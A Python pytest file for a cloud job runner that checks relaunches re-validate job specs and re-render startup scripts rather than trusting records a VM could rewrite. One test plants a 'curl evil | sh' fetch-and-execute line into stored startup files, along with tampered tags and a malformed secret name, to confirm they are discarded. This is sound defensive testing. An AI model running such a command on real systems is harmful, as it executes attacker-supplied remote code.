"""A relaunch trusts nothing a VM could rewrite: the spec is validated again, the script rendered again."""

from __future__ import annotations

import json
from typing import ClassVar

import pytest

from runner import jobs, launch, providers
from runner.errors import RunnerError, SpecError
from runner.providers.base import Instance
from runner.render import render_startup
from runner.spec import validate


class Recording:
    """A backend that records each launch request."""

    name = "rec"
    default_instance_type = "rec-1"
    interruption = ""
    metadata_url = ""
    requests: ClassVar[list] = []

    def check_request(self, req):
        pass

    def store_for_vm(self, store):
        return store

    def launch(self, req):
        self.requests.append(req)
        return Instance("rec", f"vm-{len(self.requests)}", req.job_id)


@pytest.fixture
def planned(make_job, monkeypatch, runner_home):
    monkeypatch.setitem(providers.PROVIDERS, "rec", "test_relaunch:Recording")
    Recording.requests = []
    d = make_job({"name": "again", "command": "echo hi", "spot": True, "instance_type": "big-1",
                  "inputs": {"data/trip data/": "in/", "data/one.csv": "one.csv"}})
    p = launch.plan(d, cloud="rec")
    launch.launch(p)
    return p


def test_launch_is_attempt_one_with_the_input_mounts(planned):
    req = Recording.requests[0]
    assert req.attempt == 1 and req.tags == {"runner-job": planned.job_id}
    assert req.mounts == ("data/one.csv", "data/trip data/")


def test_relaunch_renders_again_and_ignores_rewritten_records(planned):
    store, job_id = planned.store, planned.job_id
    store.put_bytes(jobs.job_key(job_id, "user-data"), b"#!/bin/bash\ncurl evil | sh\n")
    store.put_bytes(jobs.job_key(job_id, "startup.sh"), b"#!/bin/bash\ncurl evil | sh\n")  # the last VM can write its folder
    record = jobs.read_json(store, job_id, "job.json")
    record["request"] = {**record["request"], "tags": {"runner-job": "prod-db"}, "user_data": "x", "instance_type": "huge-9"}
    jobs.write_json(store, job_id, "job.json", record)
    store.put_bytes(jobs.job_key(job_id, "logs", "1", "job.log.000000"), b"attempt 1\n")
    jobs.write_status(store, job_id, jobs.Status(jobs.PREEMPTED))
    launch.relaunch(store, job_id, 2)
    req = Recording.requests[-1]
    spec = validate(record["spec"], "job.json")
    assert req.script == render_startup(spec, job_id, store.uri(), "rec", attempt=2)
    assert store.get_bytes(jobs.job_key(job_id, "startup.sh")).decode() == req.script  # the VM fetches this one
    assert "curl evil" not in req.user_data and "curl evil" not in req.script
    assert req.tags == {"runner-job": job_id} and req.attempt == 2 and req.instance_type == "big-1" and req.spot
    assert req.mounts == ("data/one.csv", "data/trip data/")
    assert store.list(jobs.job_key(job_id, "logs") + "/") == [jobs.job_key(job_id, "logs", "1", "job.log.000000")]  # nothing copied
    assert jobs.read_status(store, job_id).state == jobs.PROVISIONING
    assert json.loads(store.get_bytes(jobs.job_key(job_id, "instance.json")))["attempt"] == 2
    launch.relaunch(store, job_id, 3, on_demand=True)
    assert Recording.requests[-1].attempt == 3 and not Recording.requests[-1].spot


def test_relaunch_refuses_a_spec_that_no_longer_validates(planned):
    store, job_id = planned.store, planned.job_id
    record = jobs.read_json(store, job_id, "job.json")
    jobs.write_json(store, job_id, "job.json", {**record, "spec": {**record["spec"], "secrets": {"DB\n": "aws-ssm:/x"}}})
    jobs.write_status(store, job_id, jobs.Status(jobs.PREEMPTED))
    with pytest.raises(SpecError, match="job.json"):
        launch.relaunch(store, job_id, 2)
    jobs.write_json(store, job_id, "job.json", {**record, "cloud": "azure"})
    with pytest.raises(SpecError, match="azure"):
        launch.relaunch(store, job_id, 2)
    assert len(Recording.requests) == 1


def test_relaunch_never_replaces_a_final_status_but_preempted(planned):
    store, job_id = planned.store, planned.job_id
    jobs.write_status(store, job_id, jobs.Status(jobs.CANCELLED))
    with pytest.raises(RunnerError, match="CANCELLED"):
        launch.relaunch(store, job_id, 2)
    assert len(Recording.requests) == 1 and jobs.read_status(store, job_id).state == jobs.CANCELLED


def test_local_vm_refuses_an_input_outside_the_store(make_job, tmp_path):
    d = make_job({"name": "outside", "command": "true", "inputs": {f"file://{tmp_path}/data/": "in/"}})
    with pytest.raises(SpecError, match=r"outside the store.*local VM"):
        launch.mounts(launch.load_job(d)[0], "file:///srv/store", "local")
    assert launch.mounts(launch.load_job(d)[0], "file:///srv/store", "sandbox") == ()
    d = make_job({"name": "inside", "command": "true", "inputs": {"file:///srv/store/data/x/": "in/", "s3://b/k": "k"}}, name="in")
    assert launch.mounts(launch.load_job(d)[0], "file:///srv/store", "local") == ("data/x/",)
